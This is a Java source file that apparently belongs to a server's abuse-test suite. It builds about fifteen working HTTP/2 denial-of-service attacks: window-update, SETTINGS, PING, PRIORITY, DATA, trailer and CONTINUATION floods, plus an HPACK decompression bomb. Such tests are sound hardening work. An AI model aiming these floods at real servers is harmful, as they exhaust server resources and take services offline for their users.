package io.highwater.abuse;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.util.List;
import java.util.function.IntFunction;

/** One or a few h2c connections that send frames which are cheap to make, without end. */
final class FloodAttacks {
    private static final int CHUNK_BYTES = 64 << 10;
    private static final int UNKNOWN_TYPE = 0x42;

    private FloodAttacks() {}

    static List<Attack> all() {
        return List.of(
                flood("window-updates", "issue 7: ONE connection that widens its window by 1", 1)
                        .with(port -> Http2.widen(0, 1)),
                flood("stuck-window-updates", "the same of sockets that are full", 16)
                        .unread()
                        .opening(FloodAttacks::manyPages)
                        .with(port -> Http2.widen(0, 1)),
                flood("stream-window-updates", "a stream's window, widened by 1 without end", 1)
                        .opening(port -> socket(port, 1))
                        .with(port -> Http2.widen(1, 1)),
                flood("settings", "empty SETTINGS without end, whose ACKs nobody reads", 4)
                        .unread()
                        .with(port -> Http2.frame(Http2.SETTINGS, 0, 0, new byte[0])),
                flood(
                                "settings-of-many-streams",
                                "SETTINGS that change the window of 900 streams",
                                1)
                        .opening(port -> sockets(port, 900))
                        .with(port -> Http2.join(Http2.initialWindow(0), Http2.initialWindow(1))),
                flood("h2-pings", "PING frames without end, whose ACKs nobody reads", 4)
                        .unread()
                        .with(port -> Http2.frame(Http2.PING, 0, 0, new byte[8])),
                flood("priorities", "PRIORITY frames of streams that never are", 4)
                        .with(port -> Http2.frame(Http2.PRIORITY, 0, 7, priority(0))),
                flood("empty-data", "empty DATA frames on an open stream", 4)
                        .opening(port -> socket(port, 1))
                        .with(port -> Http2.frame(Http2.DATA, 0, 1, new byte[0])),
                flood("padded-data", "DATA frames of nothing but padding", 4)
                        .opening(port -> socket(port, 1))
                        .with(port -> Http2.frame(Http2.DATA, Http2.PADDED, 1, padding())),
                flood("unknown-frames", "frames of a type that nobody knows", 4)
                        .with(port -> Http2.frame(UNKNOWN_TYPE, 0, 0, new byte[0])),
                flood("trailers", "trailers of a request whose answer waits for its window", 4)
                        .opening(port -> Http2.join(Http2.initialWindow(0), get(port, 1)))
                        .with(port -> trailers()),
                flood("socket-trailers", "trailers of a WebSocket whose echo does", 4)
                        .opening(port -> Http2.join(Http2.initialWindow(0), stuckEcho(port)))
                        .with(port -> trailers()),
                flood("continuations", "a header block that never ends", 40)
                        .opening(FloodAttacks::openBlock)
                        .with(
                                port ->
                                        Http2.frame(
                                                Http2.CONTINUATION,
                                                0,
                                                1,
                                                Http2.request("GET", port, "/"))),
                flood("empty-continuations", "a header block that never ends, nor grows", 4)
                        .opening(FloodAttacks::openBlock)
                        .with(port -> Http2.frame(Http2.CONTINUATION, 0, 1, new byte[0])),
                Crowd.of(
                        "hpack-bombs",
                        "16 KB of references to a header of 4 KB: 64 MB of headers a request",
                        40,
                        HpackBomb::new));
    }

    private static Flood flood(String name, String claim, int lines) {
        return new Flood(name, claim, lines, port -> new byte[0], false);
    }

    /** An attack that is a frame. */
    private record Flood(
            String name, String claim, int lines, IntFunction<byte[]> opening, boolean isUnread) {
        Flood opening(IntFunction<byte[]> other) {
            return new Flood(name, claim, lines, other, isUnread);
        }

        Flood unread() {
            return new Flood(name, claim, lines, opening, true);
        }

        Attack with(IntFunction<byte[]> frame) {
            return Crowd.of(
                    name,
                    claim,
                    lines,
                    scene -> {
                        byte[] one = frame.apply(scene.port());
                        byte[] many = Frames.repeated(one, Math.max(1, CHUNK_BYTES / one.length));
                        return new Flooding(scene, opening.apply(scene.port()), many, isUnread);
                    });
        }
    }

    private static byte[] socket(int port, int stream) {
        byte[] block = Http2.connect(port, "/v1/echo");
        return Http2.frame(Http2.HEADERS, Http2.END_HEADERS, stream, block);
    }

    private static byte[] get(int port, int stream) {
        int flags = Http2.END_HEADERS | Http2.END_STREAM;
        return Http2.frame(Http2.HEADERS, flags, stream, Http2.request("GET", port, "/app.js"));
    }

    /** More than a socket holds that is not read. */
    private static byte[] manyPages(int port) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        all.writeBytes(Http2.widen(0, 1 << 30));
        for (int i = 0; i < 90; i++) {
            all.writeBytes(get(port, 2 * i + 1));
        }
        return all.toByteArray();
    }

    private static byte[] stuckEcho(int port) {
        byte[] message = Frames.frame(Frames.FIN | Frames.BINARY, new byte[10_000]);
        return Http2.join(socket(port, 1), Http2.frame(Http2.DATA, 0, 1, message));
    }

    /** An empty user-agent, by its number in the static table (RFC 7541 appendix A). */
    private static byte[] trailers() {
        int flags = Http2.END_HEADERS | Http2.END_STREAM;
        return Http2.frame(Http2.HEADERS, flags, 1, new byte[] {(byte) 0xBA});
    }

    private static byte[] sockets(int port, int count) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        for (int i = 0; i < count; i++) {
            all.writeBytes(socket(port, 2 * i + 1));
        }
        return all.toByteArray();
    }

    private static byte[] openBlock(int port) {
        return Http2.frame(Http2.HEADERS, 0, 1, Http2.request("GET", port, "/"));
    }

    private static byte[] priority(int dependsOn) {
        return ByteBuffer.allocate(5).putInt(dependsOn).put((byte) 1).array();
    }

    /** Its length, and then zeros as many. */
    private static byte[] padding() {
        byte[] payload = new byte[1];
        payload[0] = 0;
        return payload;
    }

    private static final class Flooding extends Http2Hostile {
        private final byte[] opening;
        private final ByteBuffer many;
        private final boolean unread;

        Flooding(Scene scene, byte[] opening, byte[] many, boolean unread) {
            super(scene, 1 << 16);
            this.opening = opening;
            this.many = ByteBuffer.wrap(many);
            this.unread = unread;
        }

        @Override
        int receiveBufferBytes() {
            return unread ? 4 << 10 : 0;
        }

        @Override
        void onOpen(Line line) {
            if (unread) {
                line.stopReading();
            }
            line.send(opening);
        }

        @Override
        void onSent(Line line) {
            line.send(many.duplicate());
        }
    }

    /** One header of 4 KB enters the table, and is then referred to by a byte each. */
    private static final class HpackBomb extends Http2Hostile {
        /** The newest entry of the table (RFC 7541 section 2.3.3), as an indexed field. */
        private static final int NEWEST = 0x80 | 62;

        HpackBomb(Scene scene) {
            super(scene, 1 << 16);
        }

        @Override
        void onOpen(Line line) {
            ByteArrayOutputStream block = new ByteArrayOutputStream();
            block.writeBytes(Http2.request("GET", port, "/"));
            Http2.indexedField(block, "x", "x".repeat(4_000));
            line.send(Http2.frame(Http2.HEADERS, end(), nextStream(), block.toByteArray()));
        }

        @Override
        void onSent(Line line) {
            ByteArrayOutputStream block = new ByteArrayOutputStream();
            block.writeBytes(Http2.request("GET", port, "/"));
            for (int i = 0; i < 16_000; i++) {
                block.write(NEWEST);
            }
            line.send(Http2.frame(Http2.HEADERS, end(), nextStream(), block.toByteArray()));
        }

        private static int end() {
            return Http2.END_HEADERS | Http2.END_STREAM;
        }
    }
}
